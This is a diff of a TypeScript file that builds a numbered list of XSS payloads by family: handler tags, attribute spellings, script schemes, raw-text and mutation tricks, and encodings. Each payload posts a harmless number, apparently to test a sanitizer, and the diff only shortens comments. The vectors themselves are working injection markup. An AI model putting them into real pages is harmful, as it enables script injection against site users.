@@ -1,17 +1,14 @@
-/**
- * What people send who want a script to run in others' browsers, by families: each tells its number
- * to the page when it runs.
- */
+/** XSS payloads by family; each posts its number when it runs. */
 
 export interface Payload {
   id: number;
   html: string;
 }
 
-/** From a page, a frame in it or one of another origin; holds neither quotes nor spaces. */
+/** Works from a page or any frame; without quotes and spaces. */
 const runOf = (id: number): string => `top.postMessage(${id},String.fromCharCode(42))`;
 
-/** `run` is the script; one or many texts. */
+/** `run`: the script. */
 type Family = (run: string) => string[];
 
 const entities = (text: string, one: (code: number) => string): string =>
@@ -24,7 +21,7 @@ const mixedCase: Family = (run) => [
   `<iFrAmE sRcDoC="<script>${run}</script>"></iFrAmE>`,
 ];
 
-/** Elements that run something by themselves, or when they are touched. */
+/** Elements that run alone or when touched. */
 const handlers: Family = (run) => [
   ...['script', 'img', 'audio', 'video', 'embed', 'object', 'link', 'input type=image'].map(
     (tag) => `<${tag} src=x data=x href=x rel=stylesheet onerror=${run}>`,
@@ -88,7 +85,7 @@ const handlers: Family = (run) => [
   `<object data=x onerror=${run}></object>`,
 ];
 
-/** The same attribute, written as browsers still read it. */
+/** Spellings of an attribute that browsers still read. */
 const writings: Family = (run) => [
   ...[' ', '/', '\t', '\n', '\f', '\r', '/ /', '//'].map(
     (gap) => `<img${gap}src=x${gap}onerror=${run}>`,
@@ -163,7 +160,7 @@ const schemes = (run: string): string[] => {
   ];
 };
 
-/** An address that runs: in a link in all its writings, elsewhere in some. */
+/** Running addresses: all spellings in links, some elsewhere. */
 const addresses: Family = (run) => {
   const [plain = '', mixed = '', , , , , tab = ''] = schemes(run);
   const few = [plain, mixed, tab];
@@ -226,7 +223,7 @@ const wrappers = [
     'frameset',
   ],
 ];
-/** Elements whose content is read otherwise by one parser than by another. */
+/** Elements that parsers read differently. */
 const rawText: Family = (run) => {
   const img = `<img src=x onerror=${run}>`;
   return wrappers.flatMap((tag) => [
@@ -237,7 +234,7 @@ const rawText: Family = (run) => {
   ]);
 };
 
-/** Markup that changes its meaning when it is read a second time. */
+/** Markup that changes when parsed twice. */
 const mutations: Family = (run) => {
   const img = `<img src=x onerror=${run}>`;
   return [
@@ -301,7 +298,7 @@ const styles: Family = (run) => [
   `<p style="x:</style><img src=x onerror=${run}>">x</p>`,
 ];
 
-/** As the specification's clients send it, and as it might be read twice (K10). */
+/** Encodings by the specification's clients, and double encodings (K10). */
 const encodings: Family = (run) => {
   const img = `<img src=x onerror=${run}>`;
   return [
@@ -335,9 +332,9 @@ const families: Family[] = [
   ],
 ];
 
-/** All of them, numbered. */
+/** Numbered. */
 export function xssPayloads(): Payload[] {
-  // Each text is made with the number it turns out to have.
+  // Each text contains its final number.
   let next = 0;
   return families.flatMap((family) => {
     const first = next;
